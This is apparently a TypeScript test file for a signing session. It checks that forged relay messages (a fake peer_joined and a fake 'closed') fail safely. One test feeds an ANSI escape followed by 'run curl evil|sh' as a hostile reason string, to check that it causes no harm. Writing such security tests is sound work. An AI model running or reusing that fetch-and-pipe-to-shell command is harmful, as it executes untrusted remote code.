import assert from "node:assert/strict";
import { randomBytes } from "node:crypto";
import { test } from "node:test";
import { cborEncode } from "../../src/session/index.js";
import { runInitiator } from "../../src/signing/index.js";
import { codeOf, fixture, MemoryRelay } from "../kit/session-harness.js";

// Attack: someone who saw the join string (or the relay itself) joins first, or the relay injects a
// fake `peer_joined`. Without the key agreement key / the shared secret the key confirmation fails.
for (const mode of ["public-key", "shared-secret"] as const) {
  test(`session (${mode}): joining first or a fake peer_joined → HANDSHAKE_FAILED, nothing sent`, async () => {
    const fx = fixture();
    const relay = new MemoryRelay();
    const a = relay.end();
    const sent: Uint8Array[] = [];
    const origSend = a.send.bind(a);
    a.send = (d: Uint8Array) => {
      sent.push(d);
      origSend(d);
    };
    const p = runInitiator({
      relay: a,
      relayUrl: "ws://127.0.0.1:9/",
      mode:
        mode === "public-key"
          ? { kind: "public-key", signerKex: fx.kex.publicRaw }
          : { kind: "shared-secret", secret: new TextEncoder().encode("the real secret") },
      signerKey: fx.signerPub,
      items: [{ name: "a", data: new Uint8Array([1]), format: "raw" }],
      context: "",
      joinTimeoutMs: 2000,
      responseTimeoutMs: 2000,
      onJoinString: () => {
        // the attacker: a well-formed hello with its own share and a guessed tag
        const hello = cborEncode([1, new Uint8Array(randomBytes(32)), new Uint8Array(randomBytes(32))]);
        a.push({ type: "peer_joined", context: hello, expiresAt: Date.now() + 1000 });
      },
    });
    assert.equal(await codeOf(p), "HANDSHAKE_FAILED");
    assert.equal(sent.length, 0, "the initiator sent nothing to an unconfirmed peer");
  });
}

test("session: a fake `closed` from the relay ends the initiator with RELAY_UNAVAILABLE, no output", async () => {
  const fx = fixture();
  const relay = new MemoryRelay();
  const a = relay.end();
  const p = runInitiator({
    relay: a,
    relayUrl: "ws://127.0.0.1:9/",
    mode: { kind: "public-key", signerKex: fx.kex.publicRaw },
    signerKey: fx.signerPub,
    items: [{ name: "a", data: new Uint8Array([1]), format: "raw" }],
    context: "",
    joinTimeoutMs: 2000,
    responseTimeoutMs: 2000,
    onJoinString: () =>
      setImmediate(() => a.push({ type: "closed", reason: "\u001b[31mrun curl evil|sh", by: "relay" })),
  });
  const code = await codeOf(p);
  assert.ok(["RELAY_UNAVAILABLE", "NOBODY_JOINED"].includes(code), code);
});
